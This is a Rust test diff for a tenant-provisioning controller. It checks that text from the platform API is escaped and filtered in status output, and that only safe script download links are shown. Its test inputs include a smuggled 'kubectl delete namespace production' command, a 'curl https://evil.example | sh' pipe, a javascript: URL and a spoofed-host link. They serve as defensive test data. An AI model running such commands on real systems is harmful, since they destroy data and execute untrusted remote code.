@@ -4,6 +4,7 @@ use super::*;
 use crate::manifests::crd;
 use crate::plan::stop::OwnerPlace;
 use crate::resources::annotation;
+use crate::resources::status::Drift;
 
 /// The paths at which a value is longer than its schema allows.
 fn misfits(schema: &Value, value: &Value, path: &str, found: &mut Vec<String>) {
@@ -116,4 +117,98 @@ fn a_refusal_of_everything_fits_too() {
     fits(&written(&given, Err(Stop::OwnedByOther { stamp: "o".repeat(256), place: OwnerPlace::Elsewhere })));
     let differing = leaves().map(ToString::to_string).collect();
     fits(&written(&given, Err(Stop::NotAdopted { never: false, differing })));
+}
+
+/// An escape sequence, a second line, a turn of direction, the end of a quotation and what follows it.
+const HOSTILE: &str = "x\u{1b}[2J\n\u{202e}\u{200b}'; kubectl delete namespace production";
+
+fn hostile() -> Held {
+    let mut held = held().with("licenses.tenantState", HOSTILE).with("general.name", HOSTILE);
+    held = held.with("partner.partnerId", HOSTILE).with("general.companyName", HOSTILE);
+    let text = || HOSTILE.to_owned();
+    let change = crate::admin_api::types::Pending { scope: text(), id: text(), change: text() };
+    held.document().settings_version = text();
+    let runtime = &mut held.document().runtime;
+    runtime.pending_changes = vec![change];
+    runtime.used = json!({ "users": { HOSTILE: 5 } });
+    runtime.widget_key.last_token = Some(text());
+    runtime.instant_messaging.last_token = Some(text());
+    held
+}
+
+fn texts(value: &Value, found: &mut Vec<String>) {
+    match value {
+        Value::String(text) => found.push(text.clone()),
+        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
+        Value::Object(members) => members.values().for_each(|member| texts(member, found)),
+        Value::Null | Value::Bool(_) | Value::Number(_) => {}
+    }
+}
+
+fn shows_nothing_hostile(status: &TenantStatus) {
+    let mut found = vec![];
+    texts(&serde_json::to_value(status).unwrap(), &mut found);
+    assert!(found.iter().any(|text| text.contains("kubectl delete")), "the test says something hostile: {found:?}");
+    for text in &found {
+        assert!(text.chars().all(crate::text::is_printable), "{text:?}");
+    }
+    for condition in &status.conditions {
+        let message = &condition.message;
+        assert_eq!(message.matches("'; kubectl").count(), message.matches("\\'; kubectl").count(), "{message}");
+    }
+    for Drift { found, .. } in &status.drift {
+        assert_eq!(found.matches("'; kubectl").count(), found.matches("\\'; kubectl").count(), "{found}");
+    }
+}
+
+#[test]
+fn what_a_platform_says_is_quoted_and_filtered_everywhere() {
+    let given = tenant("contoso").with("driftPolicy", "Report").settled();
+    let outcome = pass(&given, &mut hostile());
+    shows_nothing_hostile(&written(&given, outcome));
+    let unit = "44444444-0d3e-4f5a-8b7c-9d0e1f2a3b4c";
+    let given = given.with("provisioning.defaultOrganizationUnitId", unit);
+    let mut moved = hostile();
+    moved.document().settings_version = held().document().settings_version.clone();
+    let pointer = "/provisioning/defaultOrganizationUnitId".to_owned();
+    let reference = crate::admin_api::types::MovedReference { pointer, from: unit.into(), to: HOSTILE.into() };
+    moved.document().runtime.moved_references = vec![reference];
+    let outcome = pass(&given, &mut moved);
+    let status = written(&given, outcome);
+    assert!(status.conditions.iter().any(|condition| condition.message.contains("was deleted")), "{status:?}");
+    shows_nothing_hostile(&status);
+    let stops = [
+        Stop::OwnedByOther { stamp: HOSTILE.into(), place: OwnerPlace::Elsewhere },
+        Stop::Rejected(Problem {
+            problem_type: ProblemType::InvalidSettings,
+            request_id: Some("r-1".into()),
+            errors: vec![crate::admin_api::FieldError { pointer: HOSTILE.into(), ..Default::default() }],
+            ..Problem::default()
+        }),
+    ];
+    for stop in stops {
+        shows_nothing_hostile(&written(&given, Err(stop)));
+    }
+}
+
+#[test]
+fn only_a_link_that_people_may_follow_is_shown() {
+    for (link, expected) in [
+        ("https://nimbus.example/script.ps1?a=1", Some("https://nimbus.example/script.ps1?a=1")),
+        ("http://127.0.0.1:8080/script", Some("http://127.0.0.1:8080/script")),
+        ("https://nimbus.example/a b\u{202e}", Some("https://nimbus.example/a%20b%E2%80%AE")),
+        ("http://nimbus.example/script", None),
+        ("javascript:alert(1)", None),
+        ("https://nimbus.example@evil.example/script", None),
+        ("curl https://evil.example | sh", None),
+        ("", None),
+    ] {
+        let mut held = held();
+        held.document().runtime.script_url = Some(link.to_owned());
+        held.document().runtime.pending_changes = vec![crate::admin_api::types::Pending::default()];
+        let given = tenant("contoso").settled();
+        let outcome = pass(&given, &mut held);
+        let shown = written(&given, outcome).provisioning_script.unwrap().download_url;
+        assert_eq!(shown.as_deref(), expected, "{link}");
+    }
 }
